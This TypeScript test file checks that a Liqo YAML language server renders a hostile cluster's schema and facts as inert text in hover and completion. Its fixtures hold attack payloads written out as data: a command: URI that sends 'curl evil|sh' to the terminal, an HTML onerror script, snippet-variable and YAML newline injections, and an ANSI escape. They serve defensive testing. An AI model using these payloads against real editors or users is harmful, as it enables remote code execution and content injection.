// A hostile cluster's facts and schema reach the built server over the protocol: hover and completion show its
// strings as text (no link, no HTML, no command: URI can form) and insert them literally (no snippet variable,
// no placeholder, no new YAML key from a newline).
import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';
import { CompletionRequest, HoverRequest, type CompletionItem, type CompletionList, type MarkupContent } from 'vscode-languageserver-protocol/node';
import type { ClusterFacts } from '../../server/src/liqo/clusterFacts';
import { clusterFactsNotification, serverStatusRequest } from '../../server/src/protocol';
import { startClient, type Client } from '../util/lspClient';

const link = '[Request an exemption](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20evil%7Csh%5Cn%22%7D)';
const html = '<img src=x onerror="alert(1)"><a href="command:liqo.saveFacts">here</a>';
const hostileText = `${link} ${html} https://evil.example/x www.evil.example ops@evil.example\n# Heading\n- item \u001b[31mred\u001b[0m`;
const breakout = '`` ` ' + link + ' ` ``';

const served = {
  type: 'object',
  properties: {
    apiVersion: { type: 'string' }, kind: { type: 'string' }, metadata: { type: 'object' },
    spec: {
      type: 'object',
      properties: {
        owner: { type: 'string', description: hostileText, enum: [breakout, 'plain'], pattern: `^${breakout}$`, default: breakout },
        'x$CLIPBOARD${1:evil}\\}': { type: 'string', description: hostileText },
        clusterSelector: { type: 'object', 'x-kubernetes-preserve-unknown-fields': true },
      },
    },
  },
};

const facts: ClusterFacts = {
  takenAt: 1,
  clusters: [{
    context: `evil ${link}`, clusterID: 'evil', reachable: true, foreignClusters: [], namespaces: [], offloadings: [],
    crdSchemas: { 'offloading.liqo.io/v1beta1/NamespaceOffloading': served },
    virtualNodes: [{
      name: `gpu${breakout}`, clusterID: 'gpu-provider', taints: [], capacity: { [`nvidia.com/gpu${link}`]: '1' }, ready: true,
      labels: { gpu: 'a100\nevil: injected', [`k${link}`]: `<b>${html}</b>` },
    }],
  }],
};

const doc = (spec: string) => `apiVersion: offloading.liqo.io/v1beta1\nkind: NamespaceOffloading\nmetadata:\n  name: offloading\n  namespace: team-a\nspec:\n${spec}`;

/**
 * Whether Markdown is inert: after removing its code spans (a run of n backticks to the next run of exactly n),
 * no backtick is left (no span was broken out of) and no unescaped `[`, `<` or autolink start remains.
 */
function assertInert(markdown: string): void {
  let rest = '';
  for (let i = 0; i < markdown.length;) {
    const run = /^`+/.exec(markdown.slice(i));
    if (!run || (i > 0 && markdown[i - 1] === '\\')) { rest += markdown[i]; i++; continue; }
    const fence = run[0];
    const close = new RegExp(`(?<!\`)${fence}(?!\`)`, 'g');
    close.lastIndex = i + fence.length;
    const m = close.exec(markdown);
    assert.ok(m, `an unclosed code span in:\n${markdown}`);
    i = m.index + fence.length;
  }
  assert.doesNotMatch(rest, /(^|[^\\])[`[<]/, `unescaped markup in:\n${rest}`);
  assert.doesNotMatch(rest, /(^|[^\\]):\/\/|(^|[^\\])www\.|[^\\]@evil\./i, `an autolink in:\n${rest}`);
  assert.doesNotMatch(rest, /^\s*[#-] /m, `a block marker in:\n${rest}`);
  assert.ok(!markdown.includes('\u001b'), 'an ANSI escape');
}

let client: Client;
before(async () => {
  client = await startClient();
  await client.connection.sendNotification(clusterFactsNotification, facts);
  const status = await client.connection.sendRequest(serverStatusRequest);
  assert.equal(status.factsClusters, 1, 'the facts arrived');
});
after(async () => { await client.stop(); });

async function hoverAt(uri: string, text: string, line: number, character: number): Promise<string> {
  await client.open(uri, text);
  const hover = await client.connection.sendRequest(HoverRequest.type, { textDocument: { uri }, position: { line, character } });
  assert.ok(hover, 'a hover');
  return (hover.contents as MarkupContent).value;
}

async function completeAt(uri: string, text: string, line: number, character: number): Promise<CompletionItem[]> {
  await client.open(uri, text);
  const list = await client.connection.sendRequest(CompletionRequest.type, { textDocument: { uri }, position: { line, character } }) as CompletionList;
  return list.items;
}

test('hover on a field of a hostile schema: description, enum, default and pattern are text', async () => {
  const value = await hoverAt('file:///ws/hover-owner.yaml', doc('  owner: plain\n'), 6, 4);
  assertInert(value);
  assert.match(value, /Request an exemption/, 'the description is shown');
  assert.match(value, /Allowed: /);
});

test('hover on a clusterSelector: cluster, node, label and resource names from the facts are text', async () => {
  const text = doc('  clusterSelector:\n    nodeSelectorTerms:\n      - matchExpressions:\n          - key: gpu\n            operator: In\n            values: [h100]\n');
  const value = await hoverAt('file:///ws/hover-selector.yaml', text, 6, 4);
  assertInert(value);
  assert.match(value, /selects no virtual node/);
});

test('completion of keys from a hostile schema: the snippet inserts the key literally, documentation is text', async () => {
  const items = await completeAt('file:///ws/complete-key.yaml', doc('  '), 6, 2);
  const evil = items.find((i) => i.label.startsWith('x$CLIPBOARD'));
  assert.ok(evil, items.map((i) => i.label).join());
  const inserted = (evil.textEdit as { newText: string }).newText;
  // Every $ and } of the key is escaped; only our own $0 stays a tab stop.
  assert.doesNotMatch(inserted.replace(/\\[$}\\]/g, ''), /\$(?!0$)|\}/, inserted);
  assertInert((evil.documentation as MarkupContent).value);
});

test('completion of a label value from the facts with a newline inserts one quoted string, not a new key', async () => {
  const text = doc('  clusterSelector:\n    nodeSelectorTerms:\n      - matchExpressions:\n          - key: gpu\n            operator: In\n            values:\n              - ');
  const items = await completeAt('file:///ws/complete-value.yaml', text, 12, 16);
  const value = items.find((i) => i.label.startsWith('a100'));
  assert.ok(value, items.map((i) => i.label).join());
  assert.equal((value.textEdit as { newText: string }).newText, '"a100\\nevil: injected"');
});

test('completion of an enum value from a hostile schema inserts it as one quoted YAML string', async () => {
  const items = await completeAt('file:///ws/complete-enum.yaml', doc('  owner: '), 6, 9);
  const evil = items.find((i) => i.label === breakout);
  assert.ok(evil, items.map((i) => i.label).join());
  assert.equal((evil.textEdit as { newText: string }).newText, JSON.stringify(breakout));
  assert.equal(client.stderr(), '');
});
